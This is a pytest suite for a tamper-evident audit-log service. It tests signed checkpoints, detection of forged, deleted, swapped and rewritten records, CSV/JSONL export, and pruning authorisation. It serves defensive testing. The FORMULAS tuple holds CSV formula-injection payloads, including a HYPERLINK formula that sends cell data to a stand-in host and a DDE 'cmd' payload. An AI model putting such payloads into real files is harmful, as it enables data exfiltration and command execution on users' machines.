"""Tests of hitmachine.services.audit on SQLite and PostgreSQL: checkpoints, verify against
tampering of every kind, outside checkpoints, export, subject look-up and pruning.

Tampering is done the way someone with database access would: plain UPDATE, DELETE and
INSERT statements on ``audit_records``, never through our own code.
"""

from __future__ import annotations

import base64
import csv
import datetime as dt
import hashlib
import io
import json
import struct
import time
from typing import Any

import pytest
from cryptography.exceptions import InvalidSignature
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey
from pydantic import ValidationError
from sqlalchemy import delete, insert, select, update

from hitmachine.core.auditlog.checkpoint import CheckpointSigner
from hitmachine.core.auditlog.encoding import PRUNED_VALUES
from hitmachine.core.auditlog.merkle import CompactRange
from hitmachine.core.auditlog.prune_statement import PruneStatement
from hitmachine.core.auditlog.record import AuditRecord, Outcome
from hitmachine.core.clock import utc_now
from hitmachine.core.csv_cells import FORMULA_START, unescape_cell
from hitmachine.core.files import write_secret_file
from hitmachine.core.identity import normalise_identity
from hitmachine.core.keystore import WatchedKeyring, checkpoint_key_path
from hitmachine.core.principal import Principal, Role
from hitmachine.services import audit as service
from hitmachine.services.context import Context
from hitmachine.settings import Settings
from hitmachine.store import audit_log
from hitmachine.store.audit_log import AuditFilter
from hitmachine.store.schema import audit_checkpoints, audit_records, audit_tree

OFFICER = Principal(actor="fg", role=Role.PRIVACY_OFFICER, agency=None)
EM_DASH = "\u2014"
N = 40


def add_records(ctx: Context, n: int, start: int = 0, **extra: Any) -> None:
    """``n`` committed (pending) records, with free text that tries to break an export."""
    records = [AuditRecord(event="query.household", actor=f"user {i}", role="coordinator",
                           organisation="veiligheidshuis", request_id=f"req-{i}",
                           outcome=Outcome.NO_HIT, purpose="casusoverleg",
                           legal_basis="art. 2", case_reference=f'VH-{i}\n"forged",x\r\n',
                           detail={"i": i}, **extra)
               for i in range(start, start + n)]
    with ctx.db.write() as conn:
        audit_log.append(conn, records)


@pytest.fixture
def log(ctx: Context) -> Context:
    """A log of N sequenced records with a stored checkpoint every 10 records."""
    for _ in range(N // 10):
        add_records(ctx, 10)
        service.sign_checkpoint_now(ctx)
    assert service.verify(ctx).ok
    return ctx


def row_at(ctx: Context, seq: int) -> dict[str, Any]:
    with ctx.db.read() as conn:
        return dict(conn.execute(select(audit_records).where(audit_records.c.seq == seq))
                    .one()._mapping)


def execute(ctx: Context, *statements: Any) -> None:
    with ctx.db.write() as conn:
        for statement in statements:
            conn.execute(statement)


# --- checkpoints ------------------------------------------------------------------------

def read_checkpoint_by_hand(note: str, public_key: bytes, name: str) -> tuple[str, int, bytes]:
    """An independent reading of C2SP tlog-checkpoint + signed-note: origin, decimal size,
    base64 root, blank line, one "— name base64(keyid || sig)" line per signature."""
    body, sep, signatures = note.partition("\n\n")
    assert sep, "no blank line"
    body += "\n"
    origin, size, root_b64 = body.splitlines()[:3]
    assert size.isdigit() and (size == "0" or not size.startswith("0"))
    root = base64.b64decode(root_b64, validate=True)
    assert len(root) == 32
    key_id = hashlib.sha256(name.encode() + b"\n\x01" + public_key).digest()[:4]
    lines = signatures.rstrip("\n").split("\n")
    for line in lines:
        dash, signer_name, blob = line.split(" ")
        assert dash == EM_DASH
        raw = base64.b64decode(blob, validate=True)
        if signer_name == name and raw[:4] == key_id:
            Ed25519PublicKey.from_public_bytes(public_key).verify(raw[4:], body.encode())
            return origin, int(size), root
    raise AssertionError("no signature by the key")


def test_checkpoint_is_signed_in_the_c2sp_format_and_tampering_fails(log: Context) -> None:
    note = service.latest_checkpoint(log)
    assert note is not None
    signer = service.signer(log)
    public = signer.public_key.public_bytes_raw()
    origin, size, root = read_checkpoint_by_hand(note, public, signer.name)
    assert (origin, size) == (log.settings.origin, N)
    # The root is the RFC 9162 root of the records' leaf hashes, recomputed here.
    with log.db.read() as conn:
        leaves = [bytes(h) for h in conn.execute(
            select(audit_records.c.leaf_hash).where(audit_records.c.seq.is_not(None))
            .order_by(audit_records.c.seq)).scalars()]
    compact = CompactRange()
    compact.extend(leaves)
    assert root == compact.root()
    # Changing one character of the body (the size) breaks the signature.
    forged = note.replace(f"\n{N}\n", f"\n{N - 1}\n", 1)
    with pytest.raises(InvalidSignature):
        read_checkpoint_by_hand(forged, public, signer.name)
    assert not service.verify(log, outside_checkpoints=(forged,)).ok
    assert service.verify(log, outside_checkpoints=(note,)).ok


def test_the_key_file_is_private_and_not_in_the_database(log: Context) -> None:
    path = checkpoint_key_path(log.settings.keys_dir)
    assert path.stat().st_mode & 0o777 == 0o600
    # PRIVATE+KEY+<name>+<id>+<key>: the base64 key may itself hold a "+".
    secret = path.read_text().strip().split("+", 4)[4]
    with log.db.read() as conn:
        notes = " ".join(r.note for r in conn.execute(select(audit_checkpoints)))
    assert secret not in notes


def test_the_integrator_sequences_within_a_second_and_signs(ctx: Context) -> None:
    ctx.settings.audit_checkpoint_seconds = 0.2
    integrator = service.Integrator(ctx).start()
    try:
        add_records(ctx, 5)
        deadline = time.monotonic() + 3
        while time.monotonic() < deadline:
            note = service.latest_checkpoint(ctx)
            if note is not None and note.splitlines()[1] == "5":
                break
            time.sleep(0.05)
        else:
            raise AssertionError("not integrated and signed within 3 s")
    finally:
        integrator.stop()
    assert service.verify(ctx).ok


class FakeClock:
    """Both of the integrator's clocks, moved on by the test instead of sleeping."""

    def __init__(self) -> None:
        self.start = utc_now()
        self.seconds = 0.0

    def monotonic(self) -> float:
        return self.seconds

    def now(self) -> dt.datetime:
        return self.start + dt.timedelta(seconds=self.seconds)


def test_the_integrator_goes_in_small_batches_and_signs_when_a_checkpoint_is_due(
        ctx: Context) -> None:
    ctx.settings.audit_checkpoint_seconds = 1.0
    clock = FakeClock()
    integrator = service.Integrator(ctx, monotonic=clock.monotonic, now=clock.now)
    integrator.batch = 20
    add_records(ctx, integrator.batch + 5)

    def signed_size() -> int | None:
        note = service.latest_checkpoint(ctx)
        return int(note.splitlines()[1]) if note is not None else None

    assert integrator.run_once() == integrator.batch
    assert signed_size() == integrator.batch  # the first checkpoint is due at once
    assert integrator.run_once() == 5
    assert integrator.run_once() == 0
    assert signed_size() == integrator.batch  # the newest is younger than a second
    clock.seconds += 1.1
    assert integrator.run_once() == 0
    assert signed_size() == integrator.batch + 5  # the records before the quiet spell
    assert service.verify(ctx).ok


# --- verify: tampering ------------------------------------------------------------------

TAMPERED = {
    "recorded_at": "2020-01-01T00:00:00.000000Z", "event": "query.other", "actor": "someone",
    "role": "admin", "organisation": "om", "request_id": "other", "purpose": "x",
    "legal_basis": None, "case_reference": "VH-other", "subjects": "[{}]", "outcome": "hit",
    "agencies": '["om"]', "detail": "{}", "leaf_hash": b"\x00" * 32, "pruned": True,
}


def test_verify_names_the_record_after_an_update_of_any_field(log: Context) -> None:
    target = 17
    original = row_at(log, target)
    c = audit_records.c
    changes = dict(TAMPERED, id=original["id"] + 100_000, seq=10**9)
    for column, value in changes.items():
        execute(log, update(audit_records).where(c.id == original["id"]).values({column: value}))
        result = service.verify(log)
        assert not result.ok and result.first_bad_seq == target, (column, result.problems)
        changed_id = original["id"] + 100_000 if column == "id" else original["id"]
        execute(log, update(audit_records).where(c.id == changed_id)
                .values({column: original[column]}))
        assert service.verify(log).ok, column


@pytest.mark.parametrize("target", [0, 23, N - 1])
def test_verify_names_a_deleted_record(log: Context, target: int) -> None:
    execute(log, delete(audit_records).where(audit_records.c.seq == target))
    result = service.verify(log)
    assert not result.ok and result.first_bad_seq == target, result.problems


def test_verify_names_a_deleted_record_even_when_the_gap_is_closed(log: Context) -> None:
    c = audit_records.c
    execute(log, delete(audit_records).where(c.seq == 12),
            update(audit_records).where(c.seq > 12).values(seq=-c.seq),
            update(audit_records).where(c.seq < 0).values(seq=-c.seq - 1))
    result = service.verify(log)
    assert not result.ok and result.first_bad_seq == 12, result.problems


def _forged_row(seq: int, record_id: int) -> dict[str, Any]:
    from hitmachine.core.auditlog.encoding import record_leaf_hash

    row = AuditRecord(event="query.household", actor="ghost", role="coordinator",
                      organisation="veiligheidshuis", request_id="forged",
                      outcome=Outcome.NO_HIT).to_row()
    # The attacker knows the (public) encoding and gives the forgery a correct leaf hash.
    return {**row, "id": record_id, "seq": seq, "leaf_hash": record_leaf_hash(seq, record_id, row)}


def test_verify_names_an_inserted_record(log: Context) -> None:
    c = audit_records.c
    at = 9
    execute(log, update(audit_records).where(c.seq >= at).values(seq=-c.seq),
            update(audit_records).where(c.seq < 0).values(seq=-c.seq + 1),
            insert(audit_records).values(_forged_row(at, 10**6)))
    result = service.verify(log)
    assert not result.ok and result.first_bad_seq == at, result.problems


def test_verify_names_a_record_inserted_at_the_end(log: Context) -> None:
    execute(log, insert(audit_records).values(_forged_row(N, 10**6)))
    result = service.verify(log)
    assert not result.ok and result.first_bad_seq == N, result.problems


@pytest.mark.parametrize("pair", [(5, 30), (20, 21)])
def test_verify_names_the_first_of_two_swapped_records(log: Context,
                                                      pair: tuple[int, int]) -> None:
    i, j = pair
    c = audit_records.c
    execute(log, update(audit_records).where(c.seq == i).values(seq=-1),
            update(audit_records).where(c.seq == j).values(seq=i),
            update(audit_records).where(c.seq == -1).values(seq=j))
    result = service.verify(log)
    assert not result.ok and result.first_bad_seq == i, result.problems


def test_verify_catches_a_consistent_rewrite_by_the_stored_checkpoints(log: Context) -> None:
    """Contents and leaf hashes rewritten from seq 25 on, tree state too: the checkpoints
    signed before (sizes 30 and 40) no longer match; the first bad record is in 20..29."""
    _rewrite_from(log, 25, drop_checkpoints_above=None)
    result = service.verify(log)
    assert not result.ok and result.first_bad_seq == 20, result.problems


def _rewrite_from(ctx: Context, start: int, *, drop_checkpoints_above: int | None,
                  truncate: bool = False) -> None:
    from hitmachine.core.auditlog.encoding import record_leaf_hash

    c = audit_records.c
    with ctx.db.write() as conn:
        if truncate:
            conn.execute(delete(audit_records).where(c.seq >= start))
        else:
            for row in conn.execute(select(audit_records).where(c.seq >= start)).mappings().all():
                values = dict(row, actor="rewritten")
                conn.execute(update(audit_records).where(c.id == row["id"]).values(
                    actor="rewritten",
                    leaf_hash=record_leaf_hash(row["seq"], row["id"], values)))
        leaves = [bytes(h) for h in conn.execute(select(c.leaf_hash).where(c.seq.is_not(None))
                                                 .order_by(c.seq)).scalars()]
        compact = CompactRange()
        compact.extend(leaves)
        conn.execute(update(audit_tree).values(size=compact.size, root_hash=compact.root(),
                                               compact_range=compact.to_bytes()))
        if drop_checkpoints_above is not None:
            conn.execute(delete(audit_checkpoints)
                         .where(audit_checkpoints.c.size > drop_checkpoints_above))


# --- verify: checkpoints kept outside ---------------------------------------------------

def test_an_outside_checkpoint_catches_a_cut_off_tail(log: Context) -> None:
    outside = service.latest_checkpoint(log)
    assert outside is not None
    # A careful attacker cuts the last 12 records and cleans up behind them.
    _rewrite_from(log, N - 12, drop_checkpoints_above=N - 12, truncate=True)
    assert service.verify(log).ok  # the database alone cannot tell...
    result = service.verify(log, outside_checkpoints=(outside,))
    assert not result.ok and result.first_bad_seq == N - 12, result.problems  # ...this can


def test_an_outside_checkpoint_catches_a_whole_rewrite_with_a_new_key(log: Context) -> None:
    outside = service.latest_checkpoint(log)
    assert outside is not None
    old_key = service.verifier_key(log)
    # New contents from seq 3, new tree, all checkpoints replaced, signed by a new key.
    _rewrite_from(log, 3, drop_checkpoints_above=-1)
    new = CheckpointSigner.generate(log.settings.origin)
    write_secret_file(checkpoint_key_path(log.settings.keys_dir),
                      new.to_private_key_string() + "\n")
    service.sign_checkpoint_now(log)
    assert service.verify(log).ok  # consistent in itself
    result = service.verify(log, outside_checkpoints=(outside,))
    assert not result.ok and any("trusted key" in p for p in result.problems)
    # Given the old public key, the outside checkpoint is read and its root disagrees.
    result = service.verify(log, outside_checkpoints=(outside,), trusted_keys=(old_key,))
    assert not result.ok and result.first_bad_seq == 0 and result.outside_checked == 1


def test_a_stored_checkpoint_with_a_bad_signature_fails(log: Context) -> None:
    with log.db.write() as conn:
        note = conn.execute(select(audit_checkpoints.c.note)
                            .where(audit_checkpoints.c.size == 20)).scalar_one()
        conn.execute(update(audit_checkpoints).where(audit_checkpoints.c.size == 20)
                     .values(note=note.replace("\n20\n", "\n21\n")))
    result = service.verify(log)
    assert not result.ok and any("size 20" in p for p in result.problems)


# --- export -----------------------------------------------------------------------------

def independent_leaf_hash(item: dict[str, Any]) -> str:
    """docs/audit-log.md, "Canonical encoding", implemented from the text alone."""
    fields = ("recorded_at", "event", "actor", "role", "organisation", "request_id",
              "purpose", "legal_basis", "case_reference", "subjects", "outcome",
              "agencies", "detail")
    out = b"hitmachine/audit-leaf/1\x00" + struct.pack(">QQ", item["seq"], item["id"])
    for name in fields:
        value = item[name]
        if value is None:
            out += b"\xff\xff\xff\xff"
        else:
            raw = value.encode("utf-8")
            out += struct.pack(">I", len(raw)) + raw
    return hashlib.sha256(b"\x00" + out).hexdigest()


def test_export_lets_anyone_recompute_every_leaf_and_is_audited(log: Context) -> None:
    out = io.StringIO()
    assert service.export_records(log, OFFICER, AuditFilter(event="query.household"), "jsonl",
                                  out, "rid-export") == N
    lines = out.getvalue().splitlines()
    assert len(lines) == N  # free text with newlines did not split a record
    for line in lines:
        item = json.loads(line)
        assert independent_leaf_hash(item) == item["leaf_hash"]
    out = io.StringIO(newline="")
    service.export_records(log, OFFICER, AuditFilter(actor="user 3"), "csv", out, "rid-csv")
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert len(rows) == N // 10  # add_records numbers from 0 in each of the N/10 rounds
    for row in rows:
        assert row["case_reference"] == 'VH-3\n"forged",x\r\n'
        item = dict(row, seq=int(row["seq"]), id=int(row["id"]))
        item.update({name: None for name in row["null_fields"].split()})
        assert independent_leaf_hash(item) == row["leaf_hash"]
    with log.db.read() as conn:
        exports = conn.execute(select(audit_records.c.detail)
                               .where(audit_records.c.event == "audit.export")).scalars().all()
    assert [json.loads(d)["records"] for d in exports] == [N, N // 10]


FORMULAS = ('=HYPERLINK("http://x/?d="&B2)', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
            "\t=1+1", "\r=1+1", "'=quoted already")


def test_csv_export_cells_never_start_a_formula_and_still_recompute(ctx: Context) -> None:
    """Issue 13, finding 5: free text must not run as a formula in a spreadsheet."""
    records = [AuditRecord(event="query.household", actor=text, role="coordinator",
                           organisation="veiligheidshuis", request_id=text,
                           outcome=Outcome.NO_HIT, case_reference=text, detail={})
               for text in FORMULAS]
    with ctx.db.write() as conn:
        audit_log.append(conn, records)
    service.integrate(ctx)
    out = io.StringIO(newline="")
    service.export_records(ctx, OFFICER, AuditFilter(event="query.household"), "csv", out,
                           "rid-csv")
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    cells = [cell for row in rows for cell in row]
    assert cells and not [c for c in cells if c.startswith(FORMULA_START)]
    header, *body = rows
    assert len(body) == len(FORMULAS)
    for values, text in zip(body, FORMULAS, strict=True):
        row = {name: unescape_cell(cell) for name, cell in zip(header, values, strict=True)}
        assert row["case_reference"] == row["actor"] == text
        item: dict[str, Any] = dict(row, seq=int(row["seq"]), id=int(row["id"]))
        item.update({name: None for name in row["null_fields"].split()})
        assert independent_leaf_hash(item) == row["leaf_hash"]


# --- a data subject's records -----------------------------------------------------------

def test_subject_lookup_finds_the_person_under_every_key_version(ctx: Context) -> None:
    from hitmachine.core.auditlog.record import subject_entries
    from hitmachine.services import admin

    anna = normalise_identity(bsn="111222333")
    other = normalise_identity(bsn="123456782")

    def record_about(identity: Any, version: int, rid: str) -> AuditRecord:
        ps = ctx.pseudonymiser.pseudonymise([identity], version)
        return AuditRecord(event="query.household", actor="c", role="coordinator",
                           organisation="veiligheidshuis", request_id=rid,
                           outcome=Outcome.HIT, subjects=subject_entries(ps))

    ctx.audit.append(record_about(anna, 1, "anna-v1"))
    ctx.audit.append(record_about(other, 1, "other-v1"))
    admin.rotate_key(ctx, admin.CONSOLE, "rotate")
    ctx.keys = WatchedKeyring(ctx.settings.keyring_path).current
    ctx.audit.append(record_about(anna, 2, "anna-v2"))
    admin.retire_key(ctx, admin.CONSOLE, 1, "retire")  # still found under retired version 1
    ctx.keys = WatchedKeyring(ctx.settings.keyring_path).current
    found = service.subject_records(ctx, OFFICER, anna, "rid-subject")
    assert [r["request_id"] for r in found] == ["anna-v1", "anna-v2"]
    with ctx.db.read() as conn:
        [detail] = conn.execute(select(audit_records.c.detail)
                                .where(audit_records.c.event == "audit.subject")).scalars()
        stored = " ".join(str(v) for r in conn.execute(select(audit_records)) for v in r)
    assert json.loads(detail)["records"] == 2
    assert "111222333" not in stored


# --- retention --------------------------------------------------------------------------

def test_pruning_clears_contents_keeps_leaves_and_verify_stays_green(ctx: Context) -> None:
    add_records(ctx, 30, recorded_at="2020-01-01T00:00:00.000000Z")  # past the retention
    add_records(ctx, 5, start=30)  # recorded now: not yet due
    add_records(ctx, 2, start=35, recorded_at="2019-01-01T00:00:00.000000Z")  # backdated
    service.sign_checkpoint_now(ctx)
    result = service.prune(ctx, OFFICER, "rid-prune")
    assert (result.pruned, result.before_seq) == (30, 30)
    assert row_at(ctx, 0)["actor"] == "" and row_at(ctx, 0)["pruned"]
    # The backdated records come after recent ones: not pruned.
    assert not row_at(ctx, 35)["pruned"] and not row_at(ctx, 30)["pruned"]
    verified = service.verify(ctx)
    assert verified.ok, verified.problems
    assert verified.pruned == result.pruned
    # The audit.prune record carries the statement, signed with the checkpoint key.
    with ctx.db.read() as conn:
        [detail] = conn.execute(select(audit_records.c.detail).where(
            audit_records.c.event == "audit.prune")).scalars()
    body = service.signer(ctx).verifier().verify_note(json.loads(detail)["statement"])
    statement = PruneStatement.parse(body)
    assert (statement.before_seq, statement.retention_days) == (30, 730)
    # Pruning a record that no statement allows is caught.
    c = audit_records.c
    for seq in (30, 35):
        execute(ctx, update(audit_records).where(c.seq == seq)
                .values(pruned=True, **PRUNED_VALUES))
    result2 = service.verify(ctx)
    assert not result2.ok and result2.first_bad_seq == 30, result2.problems


def test_a_retention_below_the_floor_is_refused() -> None:
    with pytest.raises(ValidationError, match="floor"):
        Settings(retention_days=30)
    assert Settings(retention_days=30, retention_floor_days=30).retention_days == 30


def test_a_statement_below_the_floor_does_not_authorise(ctx: Context) -> None:
    add_records(ctx, 10, recorded_at="2025-06-01T00:00:00.000000Z")
    add_records(ctx, 2)
    service.sign_checkpoint_now(ctx)
    # Whoever held the key pruned after 100 days; the legal floor is 730.
    ctx.settings.retention_days = ctx.settings.retention_floor_days = 100
    assert service.prune(ctx, OFFICER, "rid-prune").pruned == 10
    ctx.settings.retention_floor_days = 730
    result = service.verify(ctx)
    assert not result.ok and result.first_bad_seq == 0
    assert any("below the retention floor" in p for p in result.problems), result.problems


# --- pruning must be authorised by the checkpoint key (issue 13, finding 2) ---------------

def _forge_prune(ctx: Context, detail: dict[str, Any]) -> None:
    """What a database-only actor can do: a pending audit.prune record, plain INSERT."""
    record = AuditRecord(event="audit.prune", actor="console", role="admin",
                         organisation="veiligheidshuis", request_id="forged",
                         outcome=Outcome.OK, detail=detail)
    execute(ctx, insert(audit_records).values(record.to_row()))


def _blank_recent(ctx: Context, below: int) -> None:
    c = audit_records.c
    execute(ctx, update(audit_records)
            .where(c.seq < below, c.event == "query.household")
            .values(pruned=True, **PRUNED_VALUES))


def test_a_forged_prune_record_cannot_hide_recent_records(log: Context) -> None:
    outside = service.latest_checkpoint(log)
    assert outside is not None
    _forge_prune(log, {"before_seq": N, "cutoff": "2999-01-01T00:00:00.000000Z", "records": N})
    service.integrate(log)
    _blank_recent(log, N)
    result = service.verify(log, outside_checkpoints=(outside,))
    assert not result.ok
    assert result.first_bad_seq == 0, result.problems


def test_a_prune_statement_from_another_key_or_altered_does_not_authorise(
        log: Context) -> None:
    origin, days = log.settings.origin, log.settings.retention_days
    other = CheckpointSigner.generate(origin)
    statement = PruneStatement(origin, N, days, "2026-01-01T00:00:00.000000Z").body()
    key = service.signer(log)
    genuine = key.sign_note(statement)
    forged = [
        other.sign_note(statement),                                   # another key
        genuine.replace(f"before_seq {N}", f"before_seq {N + 1}"),   # body altered
        key.sign_note(PruneStatement("another/log", N, days,
                                     "2026-01-01T00:00:00.000000Z").body()),
        key.sign_note(PruneStatement(origin, N, days,                 # dated in the future
                                     "2999-01-01T00:00:00.000000Z").body()),
    ]
    for note in forged:
        _forge_prune(log, {"before_seq": N, "statement": note})
    service.integrate(log)
    _blank_recent(log, N)
    result = service.verify(log)
    assert not result.ok and result.first_bad_seq == 0
    expected = ["no valid signature", "no valid signature", "another log",
                "dated after the record"]
    for seq, text in enumerate(expected, N):
        assert any(p.startswith(f"seq {seq}: ") and text in p for p in result.problems), \
            (seq, text, result.problems)
